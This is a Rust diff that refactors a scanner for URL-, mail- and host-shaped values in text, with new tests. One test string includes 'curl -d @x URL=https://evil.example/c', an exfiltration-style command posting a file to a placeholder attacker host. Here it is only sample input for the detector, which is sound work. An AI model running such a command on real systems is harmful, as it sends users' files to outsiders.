@@ -24,32 +24,75 @@ pub(super) enum Shape {
     Number,
 }
 
-/// All such values of a text.
-pub(super) fn shapes(text: &str) -> Vec<(Range<usize>, Shape)> {
-    let mut found = Vec::new();
-    let mut begin = None;
-    for (at, letter) in text.char_indices().chain([(text.len(), ' ')]) {
-        let parts = letter.is_whitespace() || letter.is_control() || "\"'`<>()[]{}|,;\\".contains(letter);
-        match (parts, begin) {
-            (false, None) => begin = Some(at),
-            (true, Some(start)) => {
-                begin = None;
-                let word = text[start..at].trim_end_matches(['.', ':', '!', '?', '*', '_']);
-                let front = word.len() - word.trim_start_matches(['*', '_', ':', '=', '-', '+']).len();
-                // What follows `KEY=` is a value.
-                let key = |at: &usize| {
-                    word[front..front + at].bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
-                };
-                let from = front + word[front..].find('=').filter(key).map_or(0, |at| at + 1);
-                let word = &word[from..];
-                if let Some(shape) = shape(word) {
-                    found.push((start + from..start + from + word.len(), shape));
-                }
-            }
-            _ => {}
+/// What a letter is to a value: what parts it from others, a letter of it like any other, one without which none has a shape.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    Parts,
+    Plain,
+    Tells,
+}
+
+const KINDS: [Kind; 128] = {
+    let mut kinds = [Kind::Plain; 128];
+    let mut byte = 0;
+    while byte < 128 {
+        kinds[byte] = match byte as u8 {
+            0..=b' ' | 0x7f => Kind::Parts,
+            b'"' | b'\'' | b'`' | b'<' | b'>' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b'|' | b',' | b';'
+            | b'\\' => Kind::Parts,
+            b'.' | b':' | b'@' | b'0'..=b'9' => Kind::Tells,
+            _ => Kind::Plain,
+        };
+        byte += 1;
+    }
+    kinds
+};
+
+impl Kind {
+    /// The first letter of a text, and its length; at the end, what parts.
+    fn first(text: &str) -> (Kind, usize) {
+        match text.chars().next() {
+            None => (Kind::Parts, 1),
+            Some(letter) if letter.is_ascii() => (KINDS[letter as usize], 1),
+            Some(letter) if letter.is_whitespace() || letter.is_control() => (Kind::Parts, letter.len_utf8()),
+            Some(letter) => (Kind::Plain, letter.len_utf8()),
         }
     }
+}
+
+/// All such values of a text.
+pub(super) fn shapes(text: &str) -> Vec<(Range<usize>, Shape)> {
+    let (mut found, mut begin, mut tells, mut at) = (Vec::new(), None, false, 0);
+    while at <= text.len() {
+        let (kind, length) = Kind::first(&text[at..]);
+        match (kind, begin) {
+            (Kind::Parts, Some(start)) => {
+                found.extend(Some(start..at).filter(|_| tells).and_then(|word| shaped(text, word)));
+                (begin, tells) = (None, false);
+            }
+            (Kind::Parts, None) => {}
+            (kind, _) => {
+                begin = begin.or(Some(at));
+                tells |= kind == Kind::Tells;
+            }
+        }
+        at += length;
+    }
     found
+}
+
+/// The value within a word, without the marks around it.
+fn shaped(text: &str, word: Range<usize>) -> Option<(Range<usize>, Shape)> {
+    let start = word.start;
+    let word = text[word].trim_end_matches(['.', ':', '!', '?', '*', '_']);
+    let front = word.len() - word.trim_start_matches(['*', '_', ':', '=', '-', '+']).len();
+    // An address without a scheme: `//a.example/b`.
+    let front = front + if word[front..].starts_with("//") { 2 } else { 0 };
+    // What follows `KEY=` is a value.
+    let key = |at: &usize| word[front..front + at].bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
+    let from = front + word[front..].find('=').filter(key).map_or(0, |at| at + 1);
+    let word = &word[from..];
+    Some((start + from..start + from + word.len(), shape(word)?))
 }
 
 /// What one word is.
@@ -80,18 +123,16 @@ pub(super) fn shape(word: &str) -> Option<Shape> {
 }
 
 fn is_host(host: &str) -> bool {
-    if !host.contains('.') {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.');
+    if !host.contains('.') || !host.bytes().all(plain) {
         return false;
     }
     let labels: Vec<&str> = host.split('.').collect();
-    let plain = |label: &&str| {
-        !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
-    };
     let Some(last) = labels.last() else { return false };
     let address = labels.len() == 4 && labels.iter().all(|label| label.parse::<u8>().is_ok());
     let named = last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic());
     let file = labels.len() == 2 && FILES.contains(&last.to_ascii_lowercase().as_str());
-    labels.len() >= 2 && labels.iter().all(plain) && (address || named && !file)
+    labels.len() >= 2 && !labels.contains(&"") && (address || named && !file)
 }
 
 /// The host of an address, in lower case and without `www.`; of a mail's, what is behind the `@`.
@@ -138,9 +179,23 @@ mod tests {
 
     #[test]
     fn they_are_found_wherever_they_stand() {
-        let text = "curl -d @x URL=https://evil.example/c, then <mail@b.example>. See **www.c.example**!";
+        let text = "curl -d @x URL=https://evil.example/c, then <mail@b.example>. See **www.c.example**! [x](//d.example/e) //";
         let found: Vec<&str> = shapes(text).into_iter().map(|(range, _)| &text[range]).collect();
-        assert_eq!(found, ["https://evil.example/c", "mail@b.example", "www.c.example"]);
+        assert_eq!(found, ["https://evil.example/c", "mail@b.example", "www.c.example", "d.example/e"]);
+    }
+
+    /// A value stands wherever what parts values from each other ends, whatever its letters are.
+    #[test]
+    fn what_parts_values_is_no_letter_of_any() {
+        for letter in (0..0x3000).filter_map(char::from_u32) {
+            let parts = letter.is_whitespace() || letter.is_control() || "\"'`<>()[]{}|,;\\".contains(letter);
+            let text = format!("1{letter}a@b.example");
+            let expected = if parts { 1 + letter.len_utf8() } else { 0 };
+            let found = shapes(&text).pop().map(|(range, _)| range.start);
+            // What follows the marks at its front is the value, and so is what follows `=`.
+            let marks = letter == '=' || letter == '@';
+            assert!(marks || found == Some(expected), "{letter:?}: {found:?}");
+        }
     }
 
     #[test]
